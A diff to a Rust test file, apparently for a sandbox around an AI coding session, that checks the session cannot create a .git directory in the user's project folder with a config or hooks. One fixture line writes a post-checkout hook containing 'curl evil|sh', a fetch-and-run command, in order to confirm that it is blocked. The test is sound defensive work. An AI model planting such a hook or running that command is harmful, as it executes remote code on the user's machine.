@@ -1735,8 +1735,8 @@ fn reads_under_a_home_read_grant(places: &[&str]) {
 /// session's fsmonitor command. Principle: a git directory's hooks and config run in
 /// whoever uses the repository; one made in a folder the user works in is the user's code
 /// place, whoever made it.
-/// Closed: the never patterns apply in a directory the session made; only its scratch
-/// lifts them.
+/// Closed: `.git` is a reserved name outside the scratch (`pattern_walk`), and the never
+/// patterns apply in a directory the session made; only its scratch lifts them.
 #[test]
 fn makes_a_repository_in_the_users_project_whose_hooks_the_users_git_runs() {
     let mut red = Red::start_with("gitinit", |ws| {
@@ -1754,10 +1754,10 @@ fn makes_a_repository_in_the_users_project_whose_hooks_the_users_git_runs() {
             create(&git.join("hooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
         ]
     });
-    // The hooks folder itself is refused, so the hook cannot be made (ENOENT) or is refused.
-    assert_eq!(r[3], EACCES, "the config of a .git in the user's project folder: {r:?}");
-    assert!(r[4] != 0 && !git.join("hooks/post-checkout").exists(), "the hook of a .git in the user's project folder: {r:?}");
-    assert!(!git.join("config").exists(), "a config was written: {r:?}");
+    // `.git` is a reserved name outside the scratch, so nothing inside can be made (ENOENT).
+    assert_eq!(r[0], EACCES, "a new .git in the user's project folder: {r:?}");
+    assert!(r[3] != 0 && r[4] != 0, "the config and hook of a .git in the user's project folder: {r:?}");
+    assert!(!git.join("config").exists() && !git.join("hooks/post-checkout").exists(), "{r:?}");
 }
 
 // ---------------------------------------------------------------------------------------
